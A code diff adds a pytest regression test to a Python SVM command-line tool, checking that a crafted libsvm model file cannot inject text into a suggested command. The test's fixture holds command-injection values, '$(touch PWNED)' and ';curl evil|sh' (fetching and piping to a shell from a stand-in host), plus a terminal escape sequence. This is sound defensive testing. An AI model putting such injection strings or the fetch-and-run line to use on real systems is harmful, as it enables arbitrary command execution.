@@ -298,3 +298,18 @@ def test_another_text_file_given_as_a_model_keeps_its_message(tmp_path, capsys):
     model.write_text("svm_type is what I used\n")
     assert main(["predict", str(model), isvm.datasets.data_path("heart_scale")]) == 1
     assert "is not a model saved by 'indefsvm fit --save'" in capsys.readouterr().err
+
+
+def test_a_crafted_libsvm_model_prints_no_text_of_its_own_in_the_command(tmp_path, capsys):
+    # gamma '$(touch PWNED)', coef0 ';curl evil|sh' and a terminal escape were printed as
+    # they were inside the suggested 'indefsvm fit ...' command: only numbers are
+    model = tmp_path / "crafted.model"
+    model.write_text("svm_type c_svc\nkernel_type sigmoid\ngamma $(touch PWNED)\n"
+                     "coef0 ;curl evil|sh\ndegree \x1b[31m3\nnr_class 2\ntotal_sv 1\n"
+                     "rho 0\nSV\n1 1:0.5\n")
+    assert main(["predict", str(model), isvm.datasets.data_path("heart_scale")]) == 1
+    err = capsys.readouterr().err
+    assert "svm-train (svm_type c_svc, kernel_type sigmoid)" in err
+    assert "--kernel sigmoid -C C --save" in err
+    for text in ("PWNED", "curl", "\x1b", "$("):
+        assert text not in err
